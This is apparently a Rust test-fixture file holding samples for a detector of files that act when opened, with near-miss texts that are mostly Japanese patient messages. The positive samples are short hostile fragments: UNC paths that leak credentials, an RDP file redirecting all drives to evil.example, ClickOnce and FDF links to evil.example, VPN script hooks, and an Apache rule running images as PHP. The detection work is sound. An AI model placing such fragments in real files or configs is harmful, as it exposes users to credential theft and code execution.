//! Samples of the rules for texts that act when they are opened. The near misses are messages about
//! them, and texts that only share a line.

use super::{RuleSamples, files};
use crate::fixtures::texts;

pub(super) fn rules() -> Vec<RuleSamples> {
    let mut all = of_windows();
    all.extend(of_other_programs());
    all
}

fn of_windows() -> Vec<RuleSamples> {
    vec![
        (
            "registry_file",
            files(&[
                texts::REGISTRY,
                "\u{FEFF}REGEDIT4\r\n\r\n[-HKEY_LOCAL_MACHINE\\Software\\Harmless]\r\n",
            ]),
            files(&[
                "Windows Registry Editor Version 5.00 という画面が出ました。\n[HKEY_ とは何ですか。\n",
                "息子が Windows Registry Editor Version 5.00\n[HKEY_CURRENT_USER\\A] を開きました。\n",
                "REGEDIT4\n",
            ]),
        ),
        (
            "internet_shortcut",
            files(&[
                texts::SHORTCUT,
                "[{000214A0}]\r\nProp4=31\r\n[InternetShortcut]\r\nURL=x\r\n",
            ]),
            files(&[
                "[InternetShortcut] と書かれたファイルが開けません。\nURL=なし\n",
                "[InternetShortcut]\r\n",
                texts::ENGLISH,
            ]),
        ),
        (
            "explorer_command",
            files(&[
                "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\a\\b.ico\r\n",
                "[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\a,0\r\n",
            ]),
            files(&["[Shell] Command=2", "[Shell]\r\n貝のアレルギー\r\n"]),
        ),
        (
            "autorun_file",
            files(&[
                "[AutoRun]\r\nopen=setup.exe\r\n",
                ";\r\n[autorun]\r\nshell\\open\\command=a\r\n",
            ]),
            files(&["[autorun] open=", "[autorun]\r\nというファイルがありました\r\n"]),
        ),
        (
            "setup_information",
            files(&[
                "[Version]\r\nSignature=\"$CHICAGO$\"\r\n[DefaultInstall]\r\nAddReg=a\r\n",
                "[version]\r\nSignature=$chicago$\r\n[a]\r\nUnRegisterOCXs=b\r\n",
            ]),
            files(&["[Version]\r\n2\r\n", "[Version]\r\nSignature=\"$CHICAGO$\"\r\n"]),
        ),
        (
            "theme_file",
            files(&[
                "[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\192.0.2.1\\a.jpg\r\n",
                "; a\r\n[Theme]\r\nBrandImage=\\\\192.0.2.1\\a\r\n",
            ]),
            files(&["[Theme] blue", "[Theme]\r\n皮膚の色\r\n"]),
        ),
        (
            "remote_desktop_file",
            files(&[
                "full address:s:evil.example\r\ndrivestoredirect:s:*\r\n",
                "screen mode id:i:2\r\nalternate full address:s:evil.example\r\n",
            ]),
            files(&["My full address:s:lost in the form", "full address:s:evil.example\r\n"]),
        ),
        (
            "application_reference",
            files(&[
                "https://evil.example/a.application#a.application, Culture=neutral, PublicKeyToken=0123456789abcdef\r\n",
            ]),
            files(&["https://www.example.jp/a#b, Culture=neutral, and so on"]),
        ),
    ]
}

fn of_other_programs() -> Vec<RuleSamples> {
    vec![
        (
            "desktop_entry",
            files(&[texts::STARTER, "#\n[Desktop Entry]\nType=Link\nURL=https://evil.example\n"]),
            files(&["[Desktop Entry] Exec=true", "[Desktop Entry]\nName=a\n"]),
        ),
        (
            "web_query",
            files(&[
                "WEB\r\n1\r\nhttps://evil.example/a\r\n",
                "\u{FEFF}web\n1\nhttp://evil.example\n",
            ]),
            files(&[
                "WEB\r\n予約\r\nhttps://www.example.jp\r\n",
                "1\nWEB\n1\nhttps://www.example.jp\n",
            ]),
        ),
        (
            "symbolic_link_table",
            files(&["ID;PWXL;N;E\r\nC;X1;Y1;K0;EA1\r\nE\r\n", "ID;P\nO;E\nE\n"]),
            files(&["ID;P is on the label.\nCups: 2\n", "My ID;P\nC;1\n"]),
        ),
        (
            "calendar_that_acts",
            files(&[
                "BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///a\r\n",
                "BEGIN:VCALENDAR\nATTACH;ENCODING=BASE64;VALUE=BINARY:AAAA\n",
            ]),
            files(&[
                "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:診察\r\nACTION:DISPLAY\r\n",
                "BEGIN:VCALENDAR\r\nATTACH:https://www.example.jp/map.pdf\r\n",
                "ACTION:PROCEDURE\n",
            ]),
        ),
        (
            "mail_with_parts",
            files(&[
                texts::MAIL,
                "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n",
            ]),
            files(&[
                "From: 山田\nSubject: 発疹\n\n> 前のメール\n",
                "MIME-Version: 1.0\nContent-Type: text/plain; charset=iso-2022-jp\nContent-Transfer-Encoding: 7bit\n",
                "What is Content-Type: multipart/mixed?",
            ]),
        ),
        (
            "connection_with_script",
            files(&[
                "client\nremote vpn.example 1194\nscript-security 2\nup /tmp/a\n",
                "[Interface]\nPostUp = sh a\n",
            ]),
            files(&[
                "client\nremote vpn.example 1194\n",
                "I was up all night.\nremote work 3 days\n",
            ]),
        ),
        (
            "service_unit",
            files(&["[Unit]\nDescription=a\n[Service]\nExecStart=/tmp/a\n"]),
            files(&["[Service]\nとても良い\n", "ExecStart=a\n"]),
        ),
        (
            "database_connection",
            files(&[
                "[oledb]\r\n; a\r\nProvider=MSDASQL.1;Data Source=evil.example\r\n",
                "QueryType=OLEDB\r\nVersion=1\r\n",
            ]),
            files(&["[ODBC]\r\n注射\r\n", "Provider=my doctor\n"]),
        ),
        (
            "server_settings",
            files(&[
                "AddType application/x-httpd-php .jpg\n",
                "<b>\nauto_prepend_file = a.jpg\n",
                "Options +ExecCGI\n",
            ]),
            files(&["Add type 2 diabetes to my record.", "Options + 3 days off\n"]),
        ),
        (
            "form_data_file",
            files(&["%FDF-1.2\n1 0 obj<</FDF<</F(https://evil.example/a.pdf)>>>>endobj\n"]),
            files(&["What is the file that begins with %FDF-1.2?", texts::PDF]),
        ),
    ]
}
